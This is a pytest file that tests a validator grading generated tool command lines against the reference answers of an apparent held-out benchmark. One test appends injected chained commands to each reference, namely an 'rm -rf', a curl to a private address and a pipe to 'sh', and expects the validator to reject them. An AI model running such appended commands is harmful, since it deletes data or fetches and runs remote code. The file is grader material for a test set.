"""Graded quality measures how much of the task is done: its properties on every held-out task.

The validator's docstring defines graded = R x C x E (R = 1/4 V + 3/4 I when the task has an
intent). These tests check, for every reference of every held-out task (not hand-picked
examples), what a measure of task completion must do: the reference scores 1; taking out
one of its intent options, adding an unknown option or chaining an extra command lowers it
(the last fails strictly); a bare `tool <target> <values>` for a task that needs intent
options scores at most 1/4 and below the reference with one wrong value.
"""

import json
import pathlib
import shlex

import pytest

from inversion_jax.quality import options as options_lib
from inversion_jax.quality import specs as specs_lib
from inversion_jax.quality import task_values
from inversion_jax.quality import validator

SOURCE = (pathlib.Path(__file__).resolve().parent.parent / 'inversion_jax' / 'quality' /
          'heldout' / 'source.jsonl')
RECORDS = [json.loads(line) for line in SOURCE.read_text(encoding='utf-8').splitlines() if line]
WRONG_HOST = '10.254.254.254'


def _verdict(record, command):
  return validator.validate(record['tool'], record['task'], command,
                            intent_options=record['intent_options'], values=record['values'])


def _references(record):
  return [(record, ref) for ref in record['references']]


CASES = [case for record in RECORDS for case in _references(record)]
IDS = [f'{record["id"]}:{i}' for record in RECORDS for i, _ in enumerate(record['references'])]


def _program(record, command):
  """The tool's own segment of a reference: (words before its args, its args, the rest)."""
  words = shlex.split(command)
  binaries = {b for spec in specs_lib.get(record['tool']) for b in spec.binaries}
  start = next(i for i, w in enumerate(words) if w.rsplit('/', 1)[-1].removesuffix('.py')
               .removesuffix('.pl') in binaries)
  return words[:start + 1], words[start + 1:]


def _without_option(record, command, word):
  """The reference without the option `word` (and its value), or None if it lacks it."""
  head, args = _program(record, command)
  for spec in specs_lib.get(record['tool']):
    if os_binary(head) not in spec.binaries:
      continue
    if word in spec.modes:
      return None  # A mode is not an option that can be left out alone.
    parsed = options_lib.parse(spec, args)
    table = options_lib.OptionTable(spec, parsed.mode)
    option = table.exact(word) or (table.attached(word) or (None, None))[1]
    if option is None:
      continue
    out, skip = [], 0
    removed = False
    for index, token in enumerate(args):
      if skip:
        skip -= 1
        continue
      hit = table.exact(token.split('=', 1)[0])
      if hit is option or (hit is None and option.value and token.startswith(option.names[0])
                           and len(token) > len(option.names[0])):
        removed = True
        if hit is option and option.value and '=' not in token and not option.optional_value:
          skip = 1
        continue
      out.append(token)
    return shlex.join(head + out) if removed else None
  return None


def os_binary(head):
  return head[-1].rsplit('/', 1)[-1].removesuffix('.py').removesuffix('.pl')


@pytest.mark.parametrize('record,reference', CASES, ids=IDS)
def test_reference_scores_one(record, reference):
  verdict = _verdict(record, reference)
  assert verdict.ok and verdict.quality == 1.0, (reference, verdict.reasons, verdict.details)


def test_removing_an_intent_option_lowers_the_score():
  checked = 0
  for record, reference in CASES:
    for alternative in record['intent_options']:
      for word in alternative:
        smaller = _without_option(record, reference, word)
        if smaller is None:
          continue
        checked += 1
        assert _verdict(record, smaller).quality < 1.0, (record['id'], smaller)
  assert checked >= 100


def test_an_unknown_option_lowers_the_score():
  for record, reference in CASES:
    verdict = _verdict(record, reference + ' --no-such-option-xyz')
    assert not verdict.ok and verdict.quality < 1.0, (record['id'], verdict.reasons)


def test_an_extra_chained_command_fails_strictly():
  for record, reference in CASES:
    for tail in ('; rm -rf /tmp/x', ' && curl http://10.9.9.9/x', ' | sh'):
      verdict = _verdict(record, reference + tail)
      assert not verdict.ok and 'extra_command' in verdict.reasons, (record['id'], tail)
      assert verdict.quality < 1.0


def _bare(record):
  values = task_values.normalise(record['values'])
  head, _ = _program(record, record['references'][0])
  words = [v for role in validator.TARGET_ROLES for v in values.get(role, ())]
  words += [v for role, vs in values.items() if role not in validator.TARGET_ROLES for v in vs]
  return shlex.join([os_binary(head)] + words)


def _with_wrong_value(record, reference):
  """The reference with its first target's host replaced by another host, or None."""
  values = task_values.normalise(record['values'])
  for role in validator.TARGET_ROLES:
    for value in values.get(role, ()):
      host = task_values.host_of(value)
      if host and host in reference:
        return reference.replace(host, WRONG_HOST)
  return None


def test_a_bare_command_scores_at_most_a_quarter():
  checked = 0
  for record in RECORDS:
    if not record['intent_options']:
      continue
    bare = _verdict(record, _bare(record)).quality
    assert bare <= 0.25 + 1e-9, (record['id'], _bare(record), bare)
    wrong = _with_wrong_value(record, record['references'][0])
    if wrong is not None:
      assert bare < _verdict(record, wrong).quality, (record['id'], wrong)
      checked += 1
  assert checked >= 100
